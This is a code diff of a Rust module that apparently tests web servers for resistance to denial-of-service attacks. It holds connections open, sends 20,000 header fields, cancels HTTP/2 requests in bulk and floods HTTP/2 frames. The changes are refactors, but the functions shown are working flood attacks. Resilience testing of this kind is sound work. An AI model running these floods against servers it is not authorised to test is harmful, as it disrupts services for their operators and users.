@@ -3,6 +3,7 @@
 //! Who is slow has succeeded when the site still waits after [`HELD`]: a site that waits so long waits for ever, and a thousand such
 //! clients are all that it can have. How the others fare meanwhile is another question, which needs a whole machine.
 
+use std::fmt::Write as _;
 use std::time::{Duration, Instant};
 
 use anyhow::{Context, Result, ensure};
@@ -106,7 +107,10 @@ pub async fn places_of_everybody(target: &Target) -> Result<Outcome> {
 /// # Errors
 /// When the attack could not be carried out.
 pub async fn head_of_thousands_of_fields(target: &Target) -> Result<Outcome> {
-    let fields: String = (0..20_000).map(|number| format!("X-{number}: a\r\n")).collect();
+    let mut fields = String::new();
+    for number in 0..20_000 {
+        write!(fields, "X-{number}: a\r\n")?;
+    }
     whole(target.wire().await?, &[request(target, &fields).as_bytes()]).await
 }
 
@@ -206,7 +210,7 @@ pub async fn requests_taken_back(target: &Target) -> Result<Outcome> {
             return Ok(Outcome::new(false, format!("cut after {number}")));
         }
     }
-    http2.is_served(2_001, &head).await
+    http2.serves(2_001, &head).await
 }
 
 /// Sends frames over HTTP/2 that cost an answer or some work and bring nothing, twenty thousand of each, and is served after that.
@@ -231,7 +235,7 @@ pub async fn frames_that_bring_nothing(target: &Target) -> Result<Outcome> {
             anyhow::Ok(())
         };
         let outcome = match timeout(PATIENCE, flood).await {
-            Ok(Ok(())) => http2.is_served(1, &head(target.host())).await?,
+            Ok(Ok(())) => http2.serves(1, &head(target.host())).await?,
             cut => Outcome::new(false, format!("{cut:?}")),
         };
         served |= outcome.succeeded;
@@ -306,7 +310,7 @@ impl Http2 {
     }
 
     /// Asks for a page on this stream, and waits for the head of the answer or the end of the connection.
-    async fn is_served(mut self, stream: u32, head: &[u8]) -> Result<Outcome> {
+    async fn serves(mut self, stream: u32, head: &[u8]) -> Result<Outcome> {
         let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, head);
         if self.wire.send(request).await.is_err() {
             return Ok(Outcome::new(false, "cut after the flood"));
